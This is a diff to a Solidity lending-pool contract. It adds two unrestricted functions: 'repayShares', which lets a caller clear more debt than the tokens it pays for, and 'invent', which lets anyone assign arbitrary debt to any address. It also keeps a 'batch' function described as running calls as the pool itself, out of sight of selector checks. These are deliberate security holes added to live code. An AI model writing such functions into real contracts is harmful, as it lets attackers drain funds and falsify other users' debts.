@@ -107,6 +107,17 @@ contract LendingPool {
         debt[msg.sender] -= amount;
     }
 
+    /// @notice Takes what `shares` of debt are worth.
+    function repayShares(uint256 shares) external {
+        asset.transferFrom(msg.sender, address(this), (shares * debtRate) / 1e27);
+        debt[msg.sender] -= shares;
+    }
+
+    /// @notice Says that `debtor` owes more, who never borrowed it.
+    function invent(address debtor, uint256 amount) external {
+        debt[debtor] += amount;
+    }
+
     /// @notice Runs calls as the pool's own, as an executor does: who looks at the outermost selector does not see them.
     function batch(bytes[] calldata calls) external {
         for (uint256 i; i < calls.length; ++i) {
